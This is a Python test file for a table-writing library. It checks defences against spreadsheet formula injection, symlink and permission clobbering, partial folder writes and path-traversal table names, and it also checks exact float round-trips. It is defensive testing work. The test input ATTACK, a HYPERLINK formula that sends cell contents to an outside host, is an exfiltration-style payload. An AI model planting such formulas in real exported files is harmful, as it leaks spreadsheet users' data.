"""Writing files that are safe to open and that respect what is already there.

Column names are neutralised against spreadsheet formulas as cells are; a write refuses to
replace a symbolic link, a read-only file or anything that is not a regular file (unless
forced), keeps the permission bits of a file it replaces and leaves no temporary file behind;
a folder of tables is written all or nothing; floats come back to the last bit; text that a
format cannot hold is refused with its column and row.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import reconcile as rc
from reconcile import formats

ATTACK = '=HYPERLINK("http://x"&A2,"x")'
ROOT = hasattr(os, "geteuid") and os.geteuid() == 0
# Floats that need all 17 significant digits, the smallest, and integers beyond 2**53.
EXACT = [0.1 + 0.2, 0.7333333333333334, 5e-324, 1.7976931348623157e308, 123456789.12345679, -0.0]
BIG_INTEGERS = [2**53 + 1, 2**64, 10**20 + 1]


def _table(**columns: object) -> pd.DataFrame:
    return pd.DataFrame(columns or {"note": ["a", "b"]})


def _names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


# ------------------------------------------------------------------ column names as formulas


def test_a_csv_header_that_could_run_gets_a_quote_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "notes.csv"
    formats.write_table(_table(**{ATTACK: ["a"], "ok": ["b"]}), path)
    with path.open(newline="") as handle:
        header = next(csv.reader(handle))
    assert header == ["'" + ATTACK, "ok"]
    back = formats.read_csv(path, text_columns=[], encoding="utf-8")
    assert back.columns.tolist() == [ATTACK, "ok"]


def test_an_excel_header_that_could_run_is_text_with_a_quote(tmp_path: Path) -> None:
    path = tmp_path / "notes.xlsx"
    formats.write_table(_table(**{ATTACK: ["a"], "+1": ["b"], "\t@x": ["c"]}), path)
    header = next(openpyxl.load_workbook(path)["claims"].iter_rows(max_row=1))
    assert [cell.value for cell in header] == ["'" + ATTACK, "'+1", "'\t@x"]
    assert [cell.data_type for cell in header] == ["s"] * 3
    back = formats.read_table(path, format=None, sheet=None, encoding="utf-8", text_columns=())
    assert back.frame.columns.tolist() == [ATTACK, "+1", "\t@x"]


def test_workbook_sheets_get_their_headers_neutralised_too(tmp_path: Path) -> None:
    path = tmp_path / "result.xlsx"
    formats.write_tables({"a": _table(**{"-2+3": [1]}), "b": _table(**{"@SUM(A1)": [2]})}, path)
    book = openpyxl.load_workbook(path)
    assert [book[name]["A1"].value for name in ("a", "b")] == ["'-2+3", "'@SUM(A1)"]


def test_a_folder_of_csv_files_gets_its_headers_neutralised(tmp_path: Path) -> None:
    written = formats.write_tables({"notes": _table(**{ATTACK: ["a"]})}, tmp_path / "out", format="csv")
    assert written[0].read_text(encoding="utf-8").startswith("\"'=HYPERLINK(")


names = st.text(alphabet="=+-@'\t\r aZ", min_size=1, max_size=6)


@given(st.lists(names, min_size=1, max_size=4, unique=True))
@example(labels=["=", "'="])  # quoted, "'=" and "''=": taking one quote off each names no two alike
@example(labels=["''=x", "'=x", "=x"])
def test_restoring_undoes_neutralising_for_names_and_no_name_is_left_risky(labels: list[str]) -> None:
    frame = pd.DataFrame([range(len(labels))], columns=labels)
    written = formats.neutralise_formulas(frame)
    assert not any(label.startswith(("=", "+", "-", "@", "\t", "\r")) for label in written.columns)
    assert written.columns.is_unique
    assert formats.restore_formulas(written).columns.tolist() == labels


def test_restoring_a_name_never_makes_two_columns_of_one_name() -> None:
    written_by_hand = pd.DataFrame({"=x": [1], "'=x": [2]})
    assert formats.restore_formulas(written_by_hand).columns.tolist() == ["=x", "'=x"]


def test_categories_are_neutralised_like_text() -> None:
    frame = pd.DataFrame({"quote": pd.Categorical(["=1+1", "ok", "=1+1"])})
    written = formats.neutralise_formulas(frame)["quote"]
    assert written.tolist() == ["'=1+1", "ok", "'=1+1"]
    assert formats.restore_formulas(written.to_frame())["quote"].tolist() == ["=1+1", "ok", "=1+1"]


def test_a_column_of_numbers_held_as_objects_is_left_alone() -> None:
    # Excel gives integers beyond int64 back as Python ints in an object column.
    frame = pd.DataFrame({"n": pd.Series([10**20, 3], dtype=object)})
    assert formats.neutralise_formulas(frame) is frame
    assert formats.restore_formulas(frame) is frame


# --------------------------------------------------------------------- what is already there


def test_a_symbolic_link_is_not_replaced_unless_forced(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    with pytest.raises(rc.ArgumentError, match="symbolic link") as caught:
        formats.write_table(_table(), link)
    assert caught.value.reason is rc.Reason.WILL_NOT_REPLACE
    assert str(link) in str(caught.value) and "force=True" in caught.value.hint
    assert link.is_symlink() and real.read_text() == "old"
    assert _names(tmp_path) == ["link.csv", "real.csv"]
    formats.write_table(_table(), link, force=True)  # the link itself is replaced ...
    assert not link.is_symlink() and link.read_text().startswith("note")
    assert real.read_text() == "old"  # ... never written through


def test_a_link_to_a_missing_file_is_not_followed_either(tmp_path: Path) -> None:
    link = tmp_path / "link.json"
    link.symlink_to(tmp_path / "elsewhere.json")
    with pytest.raises(rc.ArgumentError, match="symbolic link"):
        formats.write_table(_table(), link)
    assert not (tmp_path / "elsewhere.json").exists()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
@pytest.mark.parametrize("force", [False, True])
def test_a_pipe_is_never_replaced(tmp_path: Path, force: bool) -> None:
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)
    with pytest.raises(rc.ArgumentError, match="not a regular file") as caught:
        formats.write_table(_table(), pipe, force=force)
    assert caught.value.reason is rc.Reason.WILL_NOT_REPLACE
    assert stat.S_ISFIFO(os.lstat(pipe).st_mode)
    assert _names(tmp_path) == ["pipe.csv"]


def test_a_folder_is_never_replaced_by_a_file(tmp_path: Path) -> None:
    (tmp_path / "claims.csv").mkdir()
    with pytest.raises(rc.ArgumentError, match="it is a folder"):
        formats.write_table(_table(), tmp_path / "claims.csv", force=True)
    assert (tmp_path / "claims.csv").is_dir()


@pytest.mark.parametrize("name", ["notes.csv", "notes.json", "notes.xlsx", "notes.parquet"])
def test_a_read_only_file_is_not_replaced_unless_forced(tmp_path: Path, name: str) -> None:
    # Read from the mode bits, so that root (who may write anything) is refused as well.
    path = tmp_path / name
    path.write_bytes(b"old")
    path.chmod(0o444)
    with pytest.raises(rc.ArgumentError, match="read-only") as caught:
        formats.write_table(_table(), path)
    assert caught.value.reason is rc.Reason.WILL_NOT_REPLACE and "force=True" in caught.value.hint
    assert path.read_bytes() == b"old"
    assert _names(tmp_path) == [name]
    formats.write_table(_table(), path, force=True)
    assert path.read_bytes() != b"old"
    assert stat.S_IMODE(path.stat().st_mode) == 0o444  # still read-only


@pytest.mark.skipif(ROOT, reason="root may write a file whose bits forbid nobody")
def test_a_file_this_process_may_not_write_is_not_replaced(tmp_path: Path) -> None:
    path = tmp_path / "notes.csv"
    path.write_text("old")
    path.chmod(0o464)  # writable by its group only, and we are its owner
    with pytest.raises(rc.ArgumentError, match="read-only"):
        formats.write_table(_table(), path)
    assert path.read_text() == "old"


@pytest.mark.skipif(ROOT, reason="root may write into a folder without write permission")
def test_a_folder_that_cannot_be_written_says_so(tmp_path: Path) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        with pytest.raises(rc.ArgumentError, match="Permission denied") as caught:
            formats.write_table(_table(), folder / "notes.csv")
        assert caught.value.reason is rc.Reason.CANNOT_WRITE
    finally:
        folder.chmod(0o755)


@pytest.mark.parametrize("name", ["notes.csv", "notes.json", "notes.xlsx", "notes.parquet"])
def test_a_replaced_file_keeps_its_permission_bits(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(b"old")
    path.chmod(0o600)
    formats.write_table(_table(), path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_bytes() != b"old"


def test_a_new_file_gets_the_permission_bits_the_umask_gives(tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        formats.write_table(_table(), tmp_path / "notes.csv")
        written = formats.write_tables({"a": _table()}, tmp_path / "out", format="csv")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "notes.csv").stat().st_mode) == 0o640
    assert stat.S_IMODE(written[0].stat().st_mode) == 0o640
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o750


@pytest.mark.parametrize("failure", [KeyboardInterrupt, MemoryError])
def test_an_interrupted_write_leaves_the_old_file_and_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, failure: type[BaseException]
) -> None:
    path = tmp_path / "notes.csv"
    path.write_text("old")

    def interrupted(frame: pd.DataFrame, target: Path, *args: object) -> None:
        target.write_text("half")
        raise failure

    monkeypatch.setattr(formats, "_write_one", interrupted)
    with pytest.raises(failure):
        formats.write_table(_table(), path)
    assert path.read_text() == "old"
    assert _names(tmp_path) == ["notes.csv"]


# ------------------------------------------------------------------------- folders at once


def _old_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "out"
    folder.mkdir()
    for name in ("a.csv", "b.csv", "mine.txt"):
        (folder / name).write_text(f"old {name}")
    return folder


def _contents(folder: Path) -> dict[str, str]:
    return {path.name: path.read_text(encoding="utf-8") for path in sorted(folder.iterdir())}


def test_files_the_write_does_not_name_are_kept(tmp_path: Path) -> None:
    folder = _old_folder(tmp_path)
    formats.write_tables({"a": _table(), "c": _table()}, folder, format="csv")
    contents = _contents(folder)
    assert sorted(contents) == ["a.csv", "b.csv", "c.csv", "mine.txt"]
    assert contents["b.csv"] == "old b.csv" and contents["mine.txt"] == "old mine.txt"
    assert contents["a.csv"].startswith("note")


def test_a_move_that_fails_puts_back_every_file_already_moved(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = _old_folder(tmp_path)
    before = _contents(folder)
    real_replace = os.replace
    calls = []

    def second_move_fails(source: str | os.PathLike[str], target: str | os.PathLike[str]) -> None:
        calls.append(target)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real_replace(source, target)

    monkeypatch.setattr(os, "replace", second_move_fails)
    with pytest.raises(rc.ArgumentError, match="No space left on device") as caught:
        formats.write_tables({"a": _table(), "b": _table(), "c": _table()}, folder, format="csv")
    assert caught.value.reason is rc.Reason.CANNOT_WRITE
    monkeypatch.undo()
    assert _contents(folder) == before
    assert _names(tmp_path) == ["out"]


def test_an_interrupt_in_a_folder_write_changes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = _old_folder(tmp_path)
    before = _contents(folder)
    written = []

    def interrupted_on_the_second(frame: pd.DataFrame, target: object, *args: object) -> None:
        written.append(target)
        if len(written) == 2:
            raise KeyboardInterrupt

    monkeypatch.setattr(formats, "_write_one", interrupted_on_the_second)
    with pytest.raises(KeyboardInterrupt):
        formats.write_tables({"a": _table(), "b": _table()}, folder, format="csv")
    assert _contents(folder) == before
    assert _names(tmp_path) == ["out"]


def test_a_new_folder_appears_whole_or_not_at_all(tmp_path: Path) -> None:
    bad = _table(note=pd.Series(["fine", "half \ud800"], dtype=object))
    with pytest.raises(rc.ArgumentError, match="surrogate"):
        formats.write_tables({"a": _table(), "b": bad}, tmp_path / "new" / "out", format="json")
    assert _names(tmp_path) == ["new"]
    assert _names(tmp_path / "new") == []
    written = formats.write_tables({"a": _table(), "b": _table()}, tmp_path / "new" / "out", format="json")
    assert [path.name for path in written] == ["a.json", "b.json"]
    assert _names(tmp_path / "new") == ["out"] and _names(tmp_path / "new" / "out") == ["a.json", "b.json"]


def test_a_file_of_a_folder_is_checked_before_anything_is_written(tmp_path: Path) -> None:
    folder = _old_folder(tmp_path)
    (folder / "b.csv").chmod(0o444)
    before = _contents(folder)
    with pytest.raises(rc.ArgumentError, match=r"b\.csv.*read-only"):
        formats.write_tables({"a": _table(), "b": _table()}, folder, format="csv")
    assert _contents(folder) == before
    formats.write_tables({"a": _table(), "b": _table()}, folder, format="csv", force=True)
    assert _contents(folder)["b.csv"].startswith("note")


def test_a_replaced_file_of_a_folder_keeps_its_bits(tmp_path: Path) -> None:
    folder = _old_folder(tmp_path)
    (folder / "a.csv").chmod(0o600)
    formats.write_tables({"a": _table()}, folder, format="csv")
    assert stat.S_IMODE((folder / "a.csv").stat().st_mode) == 0o600


def test_a_folder_of_tables_is_not_written_over_a_file(tmp_path: Path) -> None:
    (tmp_path / "out").write_text("a file")
    with pytest.raises(rc.ArgumentError, match="it is a file") as caught:
        formats.write_tables({"a": _table()}, tmp_path / "out", format="csv")
    assert caught.value.reason is rc.Reason.NOT_A_FOLDER
    assert (tmp_path / "out").read_text() == "a file"


@pytest.mark.parametrize("name", ["../escape", "sub/a", "", ".."])
def test_a_table_name_is_a_plain_file_name(tmp_path: Path, name: str) -> None:
    with pytest.raises(rc.ArgumentError, match="plain file name"):
        formats.write_tables({name: _table()}, tmp_path / "out", format="csv")
    assert _names(tmp_path) == []


def test_a_workbook_that_cannot_be_filled_is_not_written(tmp_path: Path) -> None:
    path = tmp_path / "result.xlsx"
    path.write_bytes(b"old")
    with pytest.raises(rc.ArgumentError, match="control character"):
        formats.write_tables({"a": _table(note=["bell\x07"]), "b": _table()}, path)
    assert path.read_bytes() == b"old" and _names(tmp_path) == ["result.xlsx"]


# -------------------------------------------------------------------------- exact numbers


@pytest.mark.parametrize("name", ["t.csv", "t.json", "t.xlsx", "t.parquet"])
def test_floats_come_back_to_the_last_bit_from_every_format(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    # -0.0 is written as it is to Excel too, but pandas reads a whole number from Excel as an int.
    numbers = EXACT[:-1] if name.endswith(".xlsx") else EXACT
    formats.write_table(pd.DataFrame({"x": numbers}), path)
    back = formats.read_table(path, format=None, sheet=None, encoding="utf-8", text_columns=()).frame
    assert [float(x).hex() for x in back["x"]] == [x.hex() for x in numbers]


def test_json_writes_the_shortest_exact_text_of_each_float(tmp_path: Path) -> None:
    path = tmp_path / "t.json"
    formats.write_table(
        pd.DataFrame({"x": EXACT, "n": pd.Series([*BIG_INTEGERS, 1, 2, 3], dtype=object)}), path
    )
    text = path.read_text(encoding="utf-8")
    assert "0.30000000000000004" in text and "0.7333333333333334" in text and "5e-324" in text
    records = json.loads(text)
    assert [record["x"].hex() for record in records] == [x.hex() for x in EXACT]
    assert [record["n"] for record in records][:3] == BIG_INTEGERS


def test_json_writes_an_infinite_number_held_as_an_object(tmp_path: Path) -> None:
    path = tmp_path / "t.json"
    formats.write_table(pd.DataFrame({"x": pd.Series([float("inf"), "a", -np.inf], dtype=object)}), path)
    assert [record["x"] for record in json.loads(path.read_text())] == ["inf", "a", "-inf"]


def test_excel_keeps_integers_beyond_2_to_the_53(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    formats.write_table(pd.DataFrame({"n": pd.Series(BIG_INTEGERS, dtype=object)}), path)
    assert [
        cell.value for (cell,) in openpyxl.load_workbook(path)["claims"].iter_rows(min_row=2)
    ] == BIG_INTEGERS


def test_claims_of_1e20_round_trip_through_excel(tmp_path: Path) -> None:
    figures = [
        rc.Figure.exact(1e20, counts="militants", source="IOM"),
        rc.Figure.between(1e20, 3e20, counts="troops", source="IOM"),
    ]
    claims = rc.to_claims(figures)
    for name, format in [("c.xlsx", None), ("h.xlsx", "hxl")]:
        rc.write_claims(claims, tmp_path / name, format=format)
        back = rc.read_claims(tmp_path / name, format=format)
        assert back[["low", "value", "high"]].to_numpy().tolist() == [[1e20, 1e20, 1e20], [1e20, 2e20, 3e20]]


def test_an_integer_too_large_for_excel_is_refused_with_its_cell(tmp_path: Path) -> None:
    with pytest.raises(rc.ArgumentError, match="too large for an Excel number") as caught:
        formats.write_table(pd.DataFrame({"n": pd.Series([1, 2**1100], dtype=object)}), tmp_path / "t.xlsx")
    assert (caught.value.column, caught.value.row) == ("n", 1)
    assert _names(tmp_path) == []


# -------------------------------------------------------------------- text a file can hold


@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x0b"])
def test_excel_refuses_a_control_character_naming_its_cell(tmp_path: Path, character: str) -> None:
    table = _table(claim=["a", "b"], quote=["fine", f"half{character}way"])
    with pytest.raises(rc.ArgumentError, match="control character") as caught:
        formats.write_table(table, tmp_path / "t.xlsx")
    error = caught.value
    assert (error.reason, error.column, error.row) == (rc.Reason.CANNOT_WRITE, "quote", 1)
    assert repr(character) in str(error)
    assert _names(tmp_path) == []


def test_excel_refuses_a_control_character_in_a_header(tmp_path: Path) -> None:
    with pytest.raises(rc.ArgumentError, match="name of column") as caught:
        formats.write_table(_table(**{"a\x00b": [1]}), tmp_path / "t.xlsx")
    assert caught.value.column == "a\x00b" and caught.value.row is None


@pytest.mark.parametrize("name", ["t.csv", "t.json"])
def test_csv_and_json_keep_a_control_character(tmp_path: Path, name: str) -> None:
    formats.write_table(_table(quote=["nul\x00", "bell\x07"]), tmp_path / name)
    assert (
        "\x00" in (tmp_path / name).read_text(encoding="utf-8") or "\\u0000" in (tmp_path / name).read_text()
    )


@pytest.mark.parametrize("format", ["csv", "json", "xlsx", "parquet", "hxl"])
def test_a_lone_surrogate_is_refused_naming_its_cell(tmp_path: Path, format: str) -> None:
    table = _table(claim_id=["a", "b"], quote=pd.Series(["fine", "half \udc80"], dtype=object))
    path = tmp_path / f"t.{'csv' if format == 'hxl' else format}"
    with pytest.raises(rc.ArgumentError, match="surrogate") as caught:
        formats.write_table(table, path, format)
    assert (caught.value.reason, caught.value.column, caught.value.row) == (
        rc.Reason.CANNOT_WRITE,
        "quote",
        1,
    )
    assert _names(tmp_path) == []


def test_a_lone_surrogate_is_refused_for_an_open_file_too() -> None:
    table = _table(quote=pd.Series(["\ud800"], dtype=object))
    for format in ("json", "csv"):
        with pytest.raises(rc.ArgumentError, match="surrogate"):
            formats.write_table(table, io.StringIO(), format)


def test_a_lone_surrogate_in_a_header_is_refused(tmp_path: Path) -> None:
    with pytest.raises(rc.ArgumentError, match="name of column"):
        formats.write_table(
            pd.DataFrame([[1]], columns=pd.Index(["a\ud800"], dtype=object)), tmp_path / "t.csv"
        )


def test_a_table_that_names_a_column_twice_is_refused(tmp_path: Path) -> None:
    twice = pd.DataFrame([[1, 2]], columns=["a", "a"])
    with pytest.raises(rc.ArgumentError, match="twice"):
        formats.write_table(twice, tmp_path / "t.json")
    assert _names(tmp_path) == []
